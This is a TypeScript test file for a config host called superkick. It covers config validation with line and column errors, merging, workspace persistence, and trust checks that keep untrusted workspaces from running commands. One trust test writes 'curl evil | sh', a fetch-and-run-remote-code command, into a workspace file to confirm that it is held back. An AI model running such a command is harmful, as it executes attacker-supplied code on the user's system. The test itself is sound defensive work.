/**
 * superkick.yml through the real host: edits are watched, a bad edit keeps
 * the last good configuration and is reported with line:col, workspaces are
 * remembered across a host kill, and nothing that runs commands goes live
 * from an untrusted workspace.
 */
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { Sandbox } from '../helpers/sandbox';
import { ConfigWatch } from '../helpers/configWatch';
import type { ConfigStatus, WorkspaceInfo } from '../../server/src/protocol';

/** A git repository (a `.git` folder is what marks it) with a superkick.yml. */
function makeWorkspace(sandbox: Sandbox, name: string, config: string): string {
  const root = path.join(sandbox.work, name);
  fs.mkdirSync(path.join(root, '.git'), { recursive: true });
  fs.mkdirSync(path.join(root, 'src'));
  fs.writeFileSync(path.join(root, 'superkick.yml'), config);
  return fs.realpathSync(root);
}

/** Replaces a file the way editors save: write a temp file, rename it over. */
function saveLikeAnEditor(file: string, text: string): void {
  const temp = path.join(path.dirname(file), `.${path.basename(file)}.swp`);
  fs.writeFileSync(temp, text);
  fs.renameSync(temp, file);
}

async function show(sandbox: Sandbox, cwd: string): Promise<{ usingLastGood: boolean; config: Record<string, any>; heldBack: { path: string }[] }> {
  return JSON.parse(await sandbox.runOk(['config', 'show', '--json'], { cwd }));
}

describe('configuration in the host', () => {
  const sandbox = new Sandbox();
  after(() => sandbox.cleanup());

  it('a bad edit keeps the last good configuration and config check says where; the fix goes live', async () => {
    const good = 'budget:\n  daily_usd: 5\nnotifiers:\n  bell: {type: terminal_bell}\n';
    const root = makeWorkspace(sandbox, 'edits', good);
    const file = path.join(root, 'superkick.yml');
    // Run from a subfolder: the workspace is the folder with superkick.yml above it.
    const cwd = path.join(root, 'src');
    const first = await sandbox.run(['config', 'check'], { cwd });
    assert.equal(first.code, 0, first.stderr);
    assert.match(first.stdout, /superkick\.yml: OK/);

    const watch = await ConfigWatch.open(sandbox.dir);
    try {
      const rejected = watch.next(root, (c) => !c.status.ok, 'the bad edit is seen and rejected');
      saveLikeAnEditor(file, 'budget:\n  daily_usd: "lots"\nnotifiers:\n  bell: {type: terminal_bell}\n');
      const bad = await rejected;
      assert.deepEqual(bad.sections, [], 'nothing live changed');
      assert.equal(bad.status.usingLastGood, true);

      const check = await sandbox.run(['config', 'check'], { cwd });
      assert.equal(check.code, 1);
      assert.match(check.stdout, /^\.\.\/superkick\.yml:2:14: budget\.daily_usd: must be a number, not the string "lots"$/m);
      assert.match(check.stdout, /keeps the last good configuration/);
      const json = JSON.parse((await sandbox.run(['config', 'check', '--json'], { cwd })).stdout) as ConfigStatus;
      assert.equal(json.ok, false);
      assert.deepEqual([json.diagnostics[0].line, json.diagnostics[0].column], [2, 14]);
      const kept = await show(sandbox, cwd);
      assert.equal(kept.usingLastGood, true);
      assert.deepEqual(kept.config.budget, { daily_usd: 5 });

      const fixed = watch.next(root, (c) => c.status.ok, 'the fix goes live');
      saveLikeAnEditor(file, good.replace('daily_usd: 5', 'daily_usd: 9'));
      assert.deepEqual((await fixed).sections, ['budget'], 'only the section that changed');
      const live = await show(sandbox, cwd);
      assert.equal(live.usingLastGood, false);
      assert.deepEqual(live.config.budget, { daily_usd: 9 });
    } finally {
      watch.close();
    }
  });

  it("the user's config.yml is merged under the workspace's, and an unset env() is an error with its place", async () => {
    const root = makeWorkspace(sandbox, 'merged', 'agents:\n  max_duration: 60\n');
    fs.writeFileSync(path.join(sandbox.dir, 'config.yml'), 'agents:\n  driver: codex\n  max_duration: 10\nserver:\n  api_key: <%= env("SK_TEST_UNSET_VAR") %>\n');
    const check = await sandbox.run(['config', 'check'], { cwd: root });
    assert.equal(check.code, 1);
    assert.ok(check.stdout.includes(`${path.join(sandbox.dir, 'config.yml')}:5:12: environment variable SK_TEST_UNSET_VAR is not set`), check.stdout);

    fs.writeFileSync(path.join(sandbox.dir, 'config.yml'), 'agents:\n  driver: codex\n  max_duration: 10\nserver:\n  api_key: <%= env("SK_TEST_UNSET_VAR", "fallback-secret") %>\n');
    const shown = await sandbox.runOk(['config', 'show'], { cwd: root });
    assert.match(shown, /driver: codex/);
    assert.match(shown, /max_duration: 60/);
    assert.match(shown, /api_key: "\*\*\*"/);
    assert.ok(!shown.includes('fallback-secret'), 'a secret is never shown');
    fs.rmSync(path.join(sandbox.dir, 'config.yml'));
  });

  it('a Liquid syntax error in a template string is a config error at its place in the file', async () => {
    const root = makeWorkspace(
      sandbox,
      'templated',
      ['spawners:', '  errors:', '    type: datadog', '    kickoff_template: "Fix {{ alert.title | no_such_filter }} now"', ''].join('\n'),
    );
    const check = await sandbox.run(['config', 'check'], { cwd: root });
    assert.equal(check.code, 1, check.stdout);
    assert.match(check.stdout, /superkick\.yml:4:\d+: .*no_such_filter/);
    saveLikeAnEditor(path.join(root, 'superkick.yml'), ['spawners:', '  errors:', '    type: datadog', '    kickoff_template: "Fix {{ alert.title | upcase }} now"', ''].join('\n'));
    assert.equal((await sandbox.run(['config', 'check'], { cwd: root })).code, 0);
  });
});

describe('workspace trust', () => {
  const sandbox = new Sandbox();
  after(() => sandbox.cleanup());
  let root: string;
  let pwned: string;

  before(() => {
    pwned = path.join(sandbox.work, 'pwned');
    const touch = `touch ${pwned}`;
    root = makeWorkspace(
      sandbox,
      'stranger',
      [
        'monitors:',
        `  lint: {type: shell, command: "${touch}", poll_interval: 1}`,
        'goals:',
        `  green: {type: command, command: "${touch}", poll_interval: 1}`,
        '  done: {type: agent_exit}',
        'notifiers:',
        `  hook: {type: command, command: "${touch}"}`,
        '  bell: {type: terminal_bell}',
        'spawners:',
        '  errors:',
        '    type: datadog',
        '    goal: done',
        `    setup: ["${touch}"]`,
        'budget: {daily_usd: 1}',
        '',
      ].join('\n'),
    );
  });

  it('holds back everything that would run a command, and config check says which and why', async () => {
    const check = await sandbox.run(['config', 'check'], { cwd: root });
    assert.equal(check.code, 0, 'held back is not an error');
    assert.match(check.stdout, /^ {2}superkick\.yml:2:3: monitors\.lint: a "shell" monitor runs commands, and this workspace's commands are not trusted$/m);
    assert.match(check.stdout, /^ {2}superkick\.yml:4:3: goals\.green: a "command" goal runs commands/m);
    assert.match(check.stdout, /^ {2}superkick\.yml:7:3: notifiers\.hook: a "command" notifier runs commands/m);
    assert.match(check.stdout, /^ {2}superkick\.yml:10:3: spawners\.errors: its "setup" runs commands/m);
    assert.ok(check.stdout.includes(`superkick trust ${root}`));

    const shown = await show(sandbox, root);
    assert.deepEqual(shown.config.monitors, {});
    assert.deepEqual(Object.keys(shown.config.goals), ['done']);
    assert.deepEqual(Object.keys(shown.config.notifiers), ['bell']);
    assert.deepEqual(shown.config.spawners, {});
    assert.deepEqual(shown.config.budget, { daily_usd: 1 }, 'what runs nothing is live');
    assert.equal(fs.existsSync(pwned), false);
  });

  it('superkick trust makes them live; an edited command is held back again; --revoke takes it all back', async () => {
    const trusted = await sandbox.run(['trust'], { cwd: path.join(root, 'src') });
    assert.equal(trusted.code, 0, trusted.stderr);
    assert.match(trusted.stdout, /trusted; now live:\n {2}monitors\.lint: a "shell" monitor runs commands/);
    const live = await show(sandbox, root);
    assert.deepEqual(Object.keys(live.config.monitors), ['lint']);
    assert.deepEqual(live.heldBack, []);

    const file = path.join(root, 'superkick.yml');
    fs.writeFileSync(file, fs.readFileSync(file, 'utf8').replace(/lint: \{type: shell, command: "[^"]*"/, 'lint: {type: shell, command: "curl evil | sh"'));
    const check = await sandbox.runOk(['config', 'check'], { cwd: root });
    assert.match(check, /monitors\.lint: a "shell" monitor runs commands, and it changed since you trusted this workspace/);
    assert.ok(!check.includes('goals.green'), 'unchanged entries stay trusted');
    const after = await show(sandbox, root);
    assert.deepEqual(after.config.monitors, {});
    assert.deepEqual(Object.keys(after.config.goals).sort(), ['done', 'green']);

    const revoked = await sandbox.runOk(['trust', root, '--revoke']);
    assert.match(revoked, /trust revoked/);
    assert.deepEqual((await show(sandbox, root)).heldBack.map((h) => h.path).sort(), ['goals.green', 'monitors.lint', 'notifiers.hook', 'spawners.errors']);
    assert.equal(fs.existsSync(pwned), false);
  });
});

describe('workspaces', () => {
  const sandbox = new Sandbox();
  after(() => sandbox.cleanup());

  async function list(): Promise<WorkspaceInfo[]> {
    return JSON.parse(await sandbox.runOk(['workspace', 'list', '--json'], { cwd: sandbox.work }));
  }

  it('are registered by running a command in them, listed, removed, and remembered across a killed host', async () => {
    const a = makeWorkspace(sandbox, 'a', 'monitors:\n  t: {type: shell, command: "true"}\n');
    const b = makeWorkspace(sandbox, 'b', 'budget: {daily_usd: 2}\n');
    await sandbox.runOk(['list'], { cwd: path.join(a, 'src') });
    await sandbox.runOk(['list'], { cwd: b });
    const roots = (await list()).map((w) => w.root);
    assert.ok(roots.includes(a) && roots.includes(b), roots.join(', '));

    await sandbox.killHost();
    // The new host is started from elsewhere: a and b come back from its state, configuration loaded.
    const back = await list();
    const restored = back.find((w) => w.root === a);
    assert.ok(restored, 'a is remembered');
    assert.equal(restored.heldBackEntries, 1, "a's configuration was loaded by the new host");
    assert.ok(back.some((w) => w.root === b));

    const removed = await sandbox.runOk(['workspace', 'remove', b], { cwd: sandbox.work });
    assert.match(removed, new RegExp(`removed ${b}`));
    assert.ok(!(await list()).some((w) => w.root === b));
    const again = await sandbox.run(['workspace', 'remove', b], { cwd: sandbox.work });
    assert.equal(again.code, 1);
  });
});
